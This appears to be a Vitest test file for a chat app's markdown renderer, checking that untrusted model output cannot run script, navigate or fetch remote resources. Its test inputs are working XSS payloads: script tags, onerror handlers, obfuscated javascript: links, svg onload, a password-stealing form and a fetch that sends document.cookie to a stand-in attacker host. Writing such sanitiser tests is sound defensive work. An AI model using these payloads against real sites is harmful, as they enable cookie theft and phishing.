// @vitest-environment happy-dom
import createDOMPurify from 'dompurify'
import { lazy } from './lazy'
import { safeLinkUrl, safeStyle, safeStylesheet, sanitize } from './sanitize'
import { mount, renderOnce, settle, stream } from './test-utils'

// Model output is untrusted. Whatever it contains, the rendered answer must not run script,
// navigate the page, submit anything or load anything from another host (tracking pixels, CSS
// imports, fonts). Each case below is rendered in one go and streamed in small deltas (so the
// open-tail path is checked at every step); after every step the whole tree is inspected.

const REMOTE = /^(?:[a-z][a-z\d+.-]*:)?\/\/(?!localhost(?::\d+)?\/)/i

/** Everything that could run, navigate or fetch, anywhere in the tree. */
function dangers(root: ParentNode): string[] {
  const found: string[] = []
  const forbidden =
    'script, iframe, frame, object, embed, form, input:not([type=checkbox]), textarea, select, style, link, meta, base, template, foreignObject, use, image, video, audio, source, picture, portal, noscript'
  for (const el of root.querySelectorAll(forbidden)) {
    if (el.localName === 'style' && el.closest('.lx-mermaid')) continue // mermaid's scoped diagram styles, checked below
    found.push(`<${el.localName}>`)
  }
  for (const el of root.querySelectorAll('*')) {
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase()
      const value = attr.value.replace(/[\s\p{Cc}]/gu, '').toLowerCase()
      if (name.startsWith('on')) found.push(`${el.localName}[${name}]`)
      if (name === 'style' && !el.closest('.lx-math') && !el.closest('.lx-mermaid')) found.push(`${el.localName}[style]`)
      if (/url\((?!['"]?#)|@import|image-set|expression\(/.test(value)) found.push(`${el.localName}[${name}=${value}]`)
      if (['href', 'src', 'xlink:href', 'action', 'formaction', 'srcset', 'data', 'poster', 'background'].includes(name)) {
        if (/^(?:javascript|vbscript|data|file|blob):/.test(value)) found.push(`${el.localName}[${name}=${value}]`)
        if (name !== 'href' && name !== 'xlink:href' && REMOTE.test(attr.value)) found.push(`${el.localName}[${name}] remote`)
      }
      if (name === 'href' && el.localName === 'a' && !value.startsWith('#')) {
        if (el.getAttribute('target') !== '_blank' || el.getAttribute('rel') !== 'noopener noreferrer nofollow') found.push('a without target/rel')
      }
    }
  }
  for (const img of root.querySelectorAll('img')) {
    const src = img.getAttribute('src') ?? ''
    if (REMOTE.test(src) && !src.startsWith(`${location.origin}/files/`)) found.push(`img[src=${src}]`)
  }
  for (const style of root.querySelectorAll('style')) {
    if (/url\(\s*['"]?(?!#)|@import|@font-face|\\/i.test(style.textContent ?? '')) found.push(`<style>${style.textContent}`)
  }
  return found
}

/** Renders `markdown` one-shot and streamed; returns the final tree after async parts settle. */
async function hostile(markdown: string): Promise<HTMLElement> {
  const once = renderOnce(markdown)
  expect(dangers(once)).toEqual([])
  const { root, renderer } = mount()
  stream(renderer, markdown, 3, () => expect(dangers(root)).toEqual([]))
  await settle()
  expect(dangers(once)).toEqual([])
  expect(dangers(root)).toEqual([])
  return root
}

describe('the test DOM', () => {
  it('runs DOMPurify as browsers do (happy-dom is patched in test-dom.ts)', () => {
    const purify = createDOMPurify(window)
    expect(purify.sanitize('<h1>T</h1><p>x<script>alert(1)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">y</a></p>')).toBe(
      '<h1>T</h1><p>x<img src="x"><a>y</a></p>'
    )
  })
})

describe('hostile model output', () => {
  afterEach(() => document.body.replaceChildren())

  it('shows <script> as text', async () => {
    const root = await hostile('前文 <script>alert(1)</script> 后文\n\n<script>\nfetch("//evil.example/?c=" + document.cookie)\n</script>\n')
    expect(root.querySelector('script')).toBeNull()
    expect(root.textContent).toContain('<script>alert(1)</script>')
  })

  it('does not create <img onerror>', async () => {
    const root = await hostile('<img src=x onerror=alert(1)>\n\n行内 <img src="x" onerror="alert(2)"> 图\n')
    expect(root.querySelector('img')).toBeNull()
    expect(root.querySelector('[onerror]')).toBeNull()
  })

  it('drops javascript: links in any spelling', async () => {
    const root = await hostile(
      [
        '[a](javascript:alert(1))',
        '[b](JaVaScRiPt:alert(1))',
        '[c](&#106;avascript:alert(1))',
        '[d](&#x6A;&#x61;vascript&colon;alert(1))',
        '[e](java&#x09;script:alert(1))',
        '[f](  javascript:alert(1))',
        '[g](<javascript:alert(1)>)',
        '<javascript:alert(1)>',
        '[h](vbscript:msgbox(1))',
        '[i][ref]',
        '',
        '[ref]: javascript:alert(1)'
      ].join('\n')
    )
    const links = [...root.querySelectorAll('a')]
    expect(links.length).toBeGreaterThan(5)
    for (const a of links) expect(a.hasAttribute('href')).toBe(false)
  })

  it('drops data: links, markdown and raw', async () => {
    const root = await hostile(
      '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n<a href="data:text/html,<script>alert(1)</script>">y</a>\n\n[z](data:image/svg+xml,<svg onload=alert(1)>)\n'
    )
    expect(root.querySelector('a[href]')).toBeNull()
  })

  it('keeps http(s) and mailto links, opening in a new tab without referrer', async () => {
    const root = await hostile('[站点](https://example.com/a?b=1&c=2) <https://example.org> www.example.net [邮件](mailto:a@example.com)\n')
    const hrefs = [...root.querySelectorAll('a')].map((a) => a.getAttribute('href'))
    expect(hrefs).toEqual(['https://example.com/a?b=1&c=2', 'https://example.org/', 'http://www.example.net/', 'mailto:a@example.com'])
    for (const a of root.querySelectorAll('a')) {
      expect(a.getAttribute('target')).toBe('_blank')
      expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    }
  })

  it('does not create <svg onload>, <iframe srcdoc>, <object>, <embed>', async () => {
    const root = await hostile(
      '<svg onload=alert(1)><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>\n\n<iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n<object data="//evil.example/x.swf"></object><embed src="//evil.example/x.swf">\n'
    )
    expect(root.querySelector('svg, iframe, object, embed')).toBeNull()
  })

  it('does not create <style>, <link> or style attributes (no CSS fetch)', async () => {
    const root = await hostile(
      '<style>@import url(//evil.example/x.css); body { background: url(//evil.example/p.png) }</style>\n\n<link rel="stylesheet" href="//evil.example/x.css">\n\n<p style="background:url(//evil.example/p.png)">段落</p>\n\n<span style="background-image: url(https://evil.example/q.png)">行内</span>\n'
    )
    expect(root.querySelector('style, link, [style]')).toBeNull()
  })

  it('never loads a remote markdown image: a placeholder link opens it on click', async () => {
    const root = await hostile('看图：![追踪像素](https://evil.example/p.png?uid=1 "标题")\n\n![](//evil.example/x.gif)\n\n![](http://evil.example/y.gif)\n')
    expect(root.querySelector('img')).toBeNull()
    const links = [...root.querySelectorAll<HTMLAnchorElement>('a.lx-img')]
    expect(links.map((a) => a.textContent)).toEqual(['[图片：追踪像素]', '[图片]'])
    expect(links[0]!.getAttribute('href')).toBe('https://evil.example/p.png?uid=1')
    expect(links[0]!.getAttribute('target')).toBe('_blank')
    expect(links[0]!.getAttribute('rel')).toBe('noopener noreferrer nofollow')
    // protocol-relative: not an absolute URL, so only the text placeholder
    expect(root.textContent).toContain('[图片]')
  })

  it('loads an image only from Lingxi’s own /files/', async () => {
    const root = await hostile(
      `![海报](${location.origin}/files/a.png) ![相对](/files/b.png) ![逃逸](/files/../api/v1/user) ![外站](https://evil.example/files/c.png)\n`
    )
    const imgs = [...root.querySelectorAll('img')]
    expect(imgs.map((i) => i.getAttribute('src'))).toEqual([`${location.origin}/files/a.png`, `${location.origin}/files/b.png`])
    expect(imgs.map((i) => i.alt)).toEqual(['海报', '相对'])
    expect(root.textContent).toContain('[图片：逃逸]')
    expect(root.querySelector('a.lx-img')?.getAttribute('href')).toBe('https://evil.example/files/c.png')
  })

  it('does not create <form>, <input>, <meta refresh> or <base>', async () => {
    const root = await hostile(
      '<form action="https://evil.example/steal"><input name="p" type="password"><button>登录</button></form>\n\n<meta http-equiv="refresh" content="0;url=https://evil.example">\n\n<base href="https://evil.example/">\n'
    )
    expect(root.querySelector('form, input, meta, base')).toBeNull()
    expect([...root.querySelectorAll('button')].every((b) => b.classList.contains('lx-code-copy'))).toBe(true)
  })

  it('keeps attribute injection in titles, alt text and fence info inert', async () => {
    const root = await hostile(
      '[x](https://example.com "\\" onmouseover=\\"alert(1)") ![" onerror="alert(1)](https://example.com/a.png)\n\n```js" onclick="alert(1)\ncode\n```\n'
    )
    expect(root.querySelector('[onmouseover], [onerror], [onclick]')).toBeNull()
  })

  it('renders task lists as disabled checkboxes only', async () => {
    const root = await hostile('- [x] 完成\n- [ ] 待办\n')
    const boxes = [...root.querySelectorAll('input')]
    expect(boxes).toHaveLength(2)
    for (const box of boxes) {
      expect(box.type).toBe('checkbox')
      expect(box.disabled).toBe(true)
    }
  })

  it('keeps KaTeX untrusted: no \\href, \\url, \\includegraphics or \\htmlStyle', async () => {
    const root = await hostile(
      '$\\href{javascript:alert(1)}{点我}$ 与 $\\url{https://evil.example}$\n\n$$\n\\includegraphics{https://evil.example/p.png}\n$$\n\n$\\htmlStyle{background:url(https://evil.example/p.png)}{x}$ $\\htmlId{x}{y}$ $\\htmlData{foo=bar}{z}$\n'
    )
    await vi.waitFor(() => expect(root.querySelectorAll('.lx-math[data-done]')).toHaveLength(6))
    expect(root.querySelector('.lx-math a, .lx-math img, .lx-math [href], .lx-math [id]')).toBeNull()
    for (const el of root.querySelectorAll('.lx-math [style]')) expect(el.getAttribute('style')).not.toMatch(/url\(/)
  })

  it('renders mermaid strictly: no click callbacks, no script in labels', async () => {
    const root = await hostile(
      '```mermaid\ngraph TD\nA["<script>alert(1)</script><img src=x onerror=alert(2)>"] --> B\nclick A call alert(1)\nclick B href "javascript:alert(1)"\n```\n\n```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph LR\nC --> D\n```\n'
    )
    await vi.waitFor(() => expect(root.querySelectorAll('.lx-mermaid, .lx-code-note')).toHaveLength(2), { timeout: 10_000 })
    expect(root.querySelector('.lx-mermaid script, .lx-mermaid foreignObject, .lx-mermaid [onclick]')).toBeNull()
  })

  it('sanitises whatever SVG mermaid returns', async () => {
    const mermaid = (await import('mermaid/dist/mermaid.esm.min.mjs')).default
    const render = vi.spyOn(mermaid, 'render').mockResolvedValue({
      diagramType: 'flowchart',
      svg:
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><style>@import url(//evil.example/x.css); #m .node { fill: url(https://evil.example/p.png); stroke: url(#grad) }</style>' +
        '<a href="javascript:alert(1)"><text>x</text></a><a href="https://example.com/ok"><text>ok</text></a>' +
        '<foreignObject><div><img src="x" onerror="alert(1)"></div></foreignObject><image href="https://evil.example/p.png"></image>' +
        '<use href="https://evil.example/s.svg#x"></use><g style="fill:url(https://evil.example/p.png)" onclick="alert(1)"><rect width="10" height="10" fill="url(#grad)"></rect></g>' +
        // last: happy-dom's parser drops whatever follows a <script> inside <svg> (browsers do not)
        '<script>alert(1)</script></svg>',
      bindFunctions: vi.fn()
    })
    vi.spyOn(mermaid, 'parse').mockResolvedValue({ diagramType: 'flowchart', config: {} })
    try {
      const root = await hostile('```mermaid\ngraph TD\nA-->B\n```\n')
      await vi.waitFor(() => expect(root.querySelector('.lx-mermaid svg')).not.toBeNull())
      const svg = root.querySelector('.lx-mermaid svg')!
      expect(svg.querySelector('script, foreignObject, image, use')).toBeNull()
      expect(svg.querySelector('rect')?.getAttribute('fill')).toBe('url(#grad)')
      expect(svg.querySelector('style')?.textContent).not.toMatch(/evil|@import/)
      expect(svg.querySelector('style')?.textContent).toContain('url(#grad)')
      const links = [...svg.querySelectorAll('a')]
      expect(links.map((a) => a.getAttribute('href'))).toEqual([null, 'https://example.com/ok'])
      expect(links[1]!.getAttribute('target')).toBe('_blank')
      expect(render.mock.results.length).toBeGreaterThan(0)
      // bindFunctions would attach click handlers; never called
      const result = await render.mock.results[0]!.value
      expect(result.bindFunctions).not.toHaveBeenCalled()
    } finally {
      vi.restoreAllMocks()
    }
  })

  it('shows the source with a note when a mermaid diagram is invalid', async () => {
    const root = await hostile('```mermaid\ngraph TD\nA -->\n```\n')
    await vi.waitFor(() => expect(root.querySelector('.lx-code-note')).not.toBeNull(), { timeout: 10_000 })
    expect(root.querySelector('.lx-code-note')!.textContent).toBe('图表语法有误，已显示源码')
    expect(root.querySelector('pre code')!.textContent).toBe('graph TD\nA -->')
    expect(root.querySelector('.lx-mermaid')).toBeNull()
  })

  it('loads mermaid with strict security and never its click handlers', async () => {
    const loader = vi.spyOn(lazy, 'mermaid')
    try {
      await hostile('```mermaid\ngraph TD\nA-->B\n```\n')
      await vi.waitFor(() => expect(loader).toHaveBeenCalled())
      const mermaid = (await import('mermaid/dist/mermaid.esm.min.mjs')).default
      const config = mermaid.mermaidAPI.getSiteConfig()
      expect(config.securityLevel).toBe('strict')
      expect(config.startOnLoad).toBe(false)
      expect(config.htmlLabels).toBe(false)
      expect(config.secure).toEqual(expect.arrayContaining(['securityLevel', 'htmlLabels', 'themeCSS']))
    } finally {
      vi.restoreAllMocks()
    }
  })
})

describe('sanitize() (KaTeX and mermaid output only)', () => {
  const html = (fragment: DocumentFragment) => {
    const div = document.createElement('div')
    div.append(fragment)
    return div
  }

  it('lets KaTeX styles through only when they cannot fetch', () => {
    const div = html(
      sanitize('<span class="katex" style="height:1em"><span style="background:url(//x)">a</span><a href="https://x">b</a></span>', document, 'math')
    )
    expect(div.innerHTML).toBe('<span class="katex" style="height:1em"><span>a</span>b</span>')
  })

  it('accepts only absolute http(s) and mailto link targets', () => {
    expect(safeLinkUrl('https://example.com/a b')).toBe('https://example.com/a%20b')
    expect(safeLinkUrl('  HTTP://Example.com ')).toBe('http://example.com/')
    expect(safeLinkUrl('mailto:a@b.c')).toBe('mailto:a@b.c')
    for (const bad of [
      'javascript:alert(1)',
      'java\nscript:alert(1)',
      '\u0001javascript:x',
      'data:text/html,x',
      'vbscript:x',
      '/relative',
      '//host/x',
      'file:///etc/passwd',
      'blob:https://a/b',
      ''
    ]) {
      expect(safeLinkUrl(bad)).toBeNull()
    }
  })

  it('refuses CSS that could fetch', () => {
    expect(safeStyle('height:1.2em;vertical-align:-0.25em')).toBe('height:1.2em;vertical-align:-0.25em')
    for (const bad of ['background:url(//x)', 'background:URL( "x" )', 'b:image-set("x" 1x)', 'x:\\75rl(x)', 'x:expression(alert(1))'])
      expect(safeStyle(bad)).toBeNull()
    expect(safeStylesheet('@import "x.css";a{fill:url(//x);stroke:url(#m)}@font-face{src:url(x)}')).toBe('a{fill:none;stroke:url(#m)}')
  })
})
